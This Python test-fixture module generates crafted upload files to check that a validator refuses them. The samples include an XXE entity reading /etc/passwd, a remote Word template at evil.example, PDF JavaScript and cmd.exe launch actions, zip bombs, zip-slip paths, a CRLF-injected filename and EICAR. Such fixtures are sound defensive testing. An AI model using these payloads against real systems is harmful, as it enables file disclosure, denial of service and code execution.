"""Bad files, and good ones, made in code: nothing here can hurt whoever checks the repository out.

`BAD` is {what it is: (name, content, a part of the sentence it is refused with)}.
"""

import functools
import io
import random
import struct
import zipfile
import zlib

from tests.clamd import EICAR
from tests.pictures import declared_png, photo

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD, SHEET = "word/document.xml", "xl/workbook.xml"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
RELATIONS = "word/_rels/settings.xml.rels"
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def office(part=WORD, text="<w:p>Xin chào</w:p>", types=TYPES, more=None, how=zipfile.ZIP_DEFLATED) -> bytes:
    """Return a DOCX or XLSX of the fewest parts, and `more` {name: content}."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, body in {"[Content_Types].xml": types, part: text, **(more or {})}.items():
            archive.writestr(name, body)
    return out.getvalue()


def with_flag(content: bytes, flag: int) -> bytes:
    """Return an archive all of whose parts say they are encrypted."""
    found = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(mark)
        while at >= 0:
            found[at + offset] |= flag
            at = found.find(mark, at + 4)
    return bytes(found)


def lying(content: bytes, part: str, size: int) -> bytes:
    """Return an archive that declares a part smaller than it unfolds to."""
    found = bytearray(content)
    for mark, sizes, names in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = found.find(mark)
        while at >= 0:
            if found[at + names :].startswith(part.encode()):
                found[at + sizes : at + sizes + 4] = struct.pack("<I", size)
            at = found.find(mark, at + 4)
    return bytes(found)


def overlapping(parts: int) -> bytes:
    """Return an archive all of whose parts are one and the same kernel of a megabyte."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(2**20)) + kernel.flush()
    sizes = struct.pack("<III", zlib.crc32(bytes(2**20)), len(packed), 2**20)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 1, 0) + b"a" + packed
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        begin = archive.fp.seek(0, 2)
    whole = bytearray(out.getvalue())
    end = whole.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    central, tail = whole[start:end], whole[end:]
    at = start
    rows = b"".join(
        b"PK\x01\x02"
        + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHII", len(str(n)), 0, 0, 0, 0, 0, at)
        + str(n).encode()
        for n in range(parts)
    )
    assert begin
    directory = bytes(central) + rows
    tail[8:20] = struct.pack("<HHII", parts + 2, parts + 2, len(directory), at + len(local))
    return bytes(whole[:start]) + local + directory + bytes(tail)


def png_with(kind: bytes, data: bytes) -> bytes:
    """Return a small PNG with one more chunk after its head."""
    whole = photo(8, 8, kind="PNG", icc_profile=None)
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return whole[:33] + chunk + whole[33:]


def objects_packed(catalogue: bytes) -> bytes:
    """Return a PDF whose catalogue lies in a packed stream of objects, where no search of its bytes finds it."""
    pages = b"<</Type/Pages/Kids[]/Count 0>>"
    first = b"1 0 4 %d " % (len(catalogue) + 1)
    packed = zlib.compress(first + catalogue + b" " + pages)
    head = b"%%PDF-1.5\n2 0 obj<</Type/ObjStm/N 2/First %d/Filter/FlateDecode/Length %d>>stream\n"
    body = head % (len(first), len(packed)) + packed + b"\nendstream endobj\n"
    rows = ((0, 0, 0), (2, 2, 0), (1, 9, 0), (1, len(body), 0), (2, 2, 1))
    index = zlib.compress(b"".join(struct.pack(">BHB", *row) for row in rows))
    last = b"3 0 obj<</Type/XRef/Size 5/Root 1 0 R/W[1 2 1]/Filter/FlateDecode/Length %d>>stream\n" % len(index)
    return body + last + index + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


@functools.cache
def bad() -> dict[str, tuple[str, bytes, str]]:
    """Return {what it is: (name, content, a part of the sentence it is refused with)}."""
    jpg, png = photo(), photo(kind="PNG")
    ratio = office(more={"word/media/bomb.bin": bytes(30_000_000)})
    # Bytes nothing can pack keep the archive from seeming to unfold.
    told, noise = b"<R>" + b"<a/>" * 600_000 + b"</R>", random.Random(1).randbytes(20_000)
    wrong = "không đúng với phần mở rộng"
    return {
        "nothing in it": ("a.pdf", b"", "không có nội dung"),
        "too large": ("a.pdf", PDF + bytes(11 * 1024 * 1024), "quá lớn"),
        "a page called PDF": ("a.pdf", b"<html><script>alert(1)</script>", wrong),
        "a program called DOCX": ("a.docx", b"MZ\x90\0" + bytes(99), wrong),
        "an archive called DOCX": ("a.docx", b"Rar!\x1a\x07\0" + bytes(99), wrong),
        "a program": ("a.exe", b"MZ", "Chỉ nhận"),
        "two endings": ("a.pdf.exe", PDF, "Chỉ nhận"),
        "two endings, the good one last": ("a.exe.pdf", PDF, "hai phần mở rộng"),
        "a drawing": ("a.svg", b"<svg onload='alert(1)'/>", "Chỉ nhận"),
        "a drawing called PNG": ("a.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>", wrong),
        "a page called JPG": ("a.jpg", b"<!doctype html><script>alert(1)</script>", wrong),
        "a page": ("a.html", b"<html>", "Chỉ nhận"),
        "a GIF that is a script, called JPG": ("a.jpg", b"GIF89a/*" + bytes(9) + b"*/=alert(1)", wrong),
        "a TIFF called JPG": ("a.jpg", b"II*\0" + bytes(99), wrong),
        "a photo of an iPhone": ("a.heic", b"\0\0\0\x18ftypheic", "JPG"),
        "PNG called JPG": ("a.jpg", png, wrong),
        "a workbook called document": ("a.docx", office(SHEET), wrong),
        "a script before the PDF": ("a.pdf", b"alert(1)//" + PDF, wrong),
        "a page hung on behind a PDF": ("a.pdf", PDF + b"<html>" + b"x" * 4_000, "bị hỏng"),
        "a macro": ("a.docx", office(more={"word/vbaProject.bin": b"x"}), "macro"),
        "a macro, declared": ("a.docx", office(types="<a ContentType='x.macroEnabled.main+xml'/>"), "macro"),
        "a macro, declared beside": ("a.docx", office(types=f"<!--{' ' * 300_000}-->x.macroEnabled."), "macro"),
        "a document with macros": ("a.docm", office(), "Chỉ nhận"),
        "a control that runs": ("a.docx", office(more={"word/activeX/activeX1.bin": b"x"}), "nhúng"),
        "an object in it": ("a.docx", office(more={"word/embeddings/oleObject1.bin": OLE}), "nhúng"),
        "an archive in it": ("a.docx", office(more={"word/embeddings/a.zip": office()}), "nhúng"),
        "a program in it": ("a.docx", office(more={"word/media/a.exe": b"MZ"}), "macro"),
        "a template from elsewhere": ("a.docx", office(more={RELATIONS: REMOTE}), "liên kết ra ngoài"),
        "closed by a password": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
        "parts closed by a password": ("a.docx", with_flag(office(), 1), "mật khẩu"),
        "of Word 97": ("a.docx", OLE, "mật khẩu hoặc thuộc định dạng cũ"),
        "a PDF closed by a password": ("a.pdf", PDF.replace(b"r<<>>", b"r<</Encrypt 5 0 R>>"), "mật khẩu"),
        "a PDF that runs": ("a.pdf", PDF.replace(b"<<>>e", b"<</OpenAction<</S/JavaScript/JS(1)>>>>e"), "mã lệnh"),
        "a PDF that runs, spelled oddly": ("a.pdf", PDF.replace(b"<<>>e", b"<</S/J#61vaScr#69pt>>e"), "mã lệnh"),
        "a PDF that starts a program": ("a.pdf", PDF.replace(b"<<>>e", b"<</S/Launch/F(cmd.exe)>>e"), "mã lệnh"),
        "a PDF with a file in it": ("a.pdf", PDF.replace(b"<<>>e", b"<</Type/EmbeddedFile>>e"), "mã lệnh"),
        "a PDF that runs what is packed": (
            "a.pdf",
            objects_packed(b"<</Type/Catalog/Pages 4 0 R/OpenAction<</S/JavaScript/JS(1)>>>>"),
            "mã lệnh",
        ),
        "cut off": ("a.pdf", b"%PDF-1.7\n1 0 obj", "bị hỏng"),
        "a photo cut off": ("a.jpg", jpg[: len(jpg) // 2], "bị hỏng"),
        "an archive cut off": ("a.docx", office()[:-30], "bị hỏng"),
        "unfolds two hundred times": ("a.docx", ratio, "bung ra quá lớn"),
        "a tree of relations": ("a.docx", office(more={RELATIONS: told, "word/media/a.png": noise}), "bung ra quá lớn"),
        "unfolds, and says it does not": ("a.docx", lying(ratio, "word/media/bomb.bin", 100), "bị hỏng"),
        "one kernel two thousand times": ("a.docx", overlapping(2_000), "bung ra quá lớn"),
        "ten thousand parts": ("a.docx", office(more={f"a{n}": b"" for n in range(3_100)}), "bung ra quá lớn"),
        "a path out of the archive": ("a.docx", office(more={"../../etc/passwd": b"x"}), "đường dẫn lạ"),
        "a path from the root": ("a.docx", office(more={"/etc/passwd": b"x"}), "đường dẫn lạ"),
        "an entity from elsewhere": ("a.docx", office(text=ENTITY), "khai báo lạ"),
        "an entity, in UTF-16": ("a.docx", office(text=ENTITY.encode("utf-16")), "khai báo lạ"),
        "an entity in another part": ("a.xlsx", office(SHEET, more={"xl/sharedStrings.xml": ENTITY}), "khai báo lạ"),
        "40.000 pixels wide": ("a.png", declared_png(40_000, 40_000), "quá lớn"),
        "a colour profile that unfolds": (
            "a.png",
            png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(80_000_000), 9)),
            "bị hỏng",
        ),
        "a remark that unfolds": (
            "a.png",
            png_with(b"zTXt", b"x\0\0" + zlib.compress(bytes(80_000_000), 9)),
            "bị hỏng",
        ),
        "the EICAR test": ("a.pdf", b"%PDF-1.7\n" + EICAR + b"\n%%EOF", "độc hại"),
        "the EICAR test as it is": ("eicar.com", EICAR, "Chỉ nhận"),
        "a folder in its name": ("../../a.pdf", PDF, "không hợp lệ"),
        "a folder of Windows in its name": ("..\\a.pdf", PDF, "không hợp lệ"),
        "NUL in its name": ("a\0.pdf", PDF, "không hợp lệ"),
        "a line end in its name": ("a\r\nX-Evil: 1.pdf", PDF, "không hợp lệ"),
        "300 characters": ("d" * 300 + ".pdf", PDF, "quá dài"),
        "turned around in its name": ("bc\u202efdp.exe", PDF, "Chỉ nhận"),
        "no name but an ending": (".pdf", PDF, "Chỉ nhận"),
        "a name of Windows": ("CON.pdf", PDF, "không hợp lệ"),
    }


@functools.cache
def bad_workbooks() -> dict[str, tuple[bytes, str]]:
    """Return {what it is: (content, a part of the sentence)} of files called XLSX that an import is asked to read."""
    shared = "".join(f"<si><t>{n * 7919 % 10**6}</t></si>" for n in range(130_000))
    ratio = office(SHEET, more={"xl/worksheets/sheet1.xml": bytes(30_000_000)})
    return {
        "a document": (office(), "không đúng với phần mở rộng"),
        "of Excel 97": (OLE, "đời cũ"),
        "no archive": (b"a,b\n1,2\n", "bị hỏng"),
        "a macro": (office(SHEET, more={"xl/vbaProject.bin": b"x"}), "macro"),
        "closed by a password": (OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
        "unfolds two hundred times": (ratio, "bung ra quá lớn"),
        "unfolds, and says it does not": (lying(ratio, "xl/worksheets/sheet1.xml", 100), "bị hỏng"),
        "a path out of the archive": (office(SHEET, more={"../a": b"x"}), "đường dẫn lạ"),
        "an entity in the sheet": (office(SHEET, more={"xl/worksheets/sheet1.xml": ENTITY}), "khai báo lạ"),
        "an entity in the texts, in UTF-16": (
            office(SHEET, more={"xl/sharedStrings.xml": ENTITY.encode("utf-16")}),
            "khai báo lạ",
        ),
        "an object in it": (office(SHEET, more={"xl/embeddings/oleObject1.bin": OLE}), "nhúng"),
        "more texts than cells": (office(SHEET, more={"xl/sharedStrings.xml": f"<sst>{shared}</sst>"}), "quá dài"),
        "nothing but its part": (office(SHEET), "."),
    }


@functools.cache
def good() -> dict[str, tuple[str, bytes]]:
    """Return {what it is: (name, content)} of files that are taken, however odd they look."""
    png = photo(kind="PNG")
    return {
        "a PDF": ("Báo cáo số 12.BC.PDF", PDF),
        "a PDF without packed code": ("a.pdf", objects_packed(b"<</Type/Catalog/Pages 4 0 R>>")),
        "a document": ("ke-hoach.docx", office()),
        "a document with a chart's workbook": (
            "a.docx",
            office(more={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office(SHEET)}),
        ),
        "a document with a link": (
            "a.docx",
            office(more={"word/_rels/document.xml.rels": REMOTE.replace("attachedTemplate", "hyperlink")}),
        ),
        "a workbook": ("so-lieu.xlsx", office(SHEET)),
        "a photo": ("ảnh.jpeg", photo()),
        "a photo with a file behind it": ("a.jpg", photo() + b"PK\x03\x04<script>"),
        "a picture": ("ảnh.png", png),
        "a name in NFD": ("Ba\u0301o ca\u0301o.pdf", PDF),
        "a name turned around, but PDF": ("\u202ea.pdf", PDF),
        "an apostrophe and an emoji": ("Ảnh “ra quân” 👍 'ấp 1'.jpg", photo()),
    }
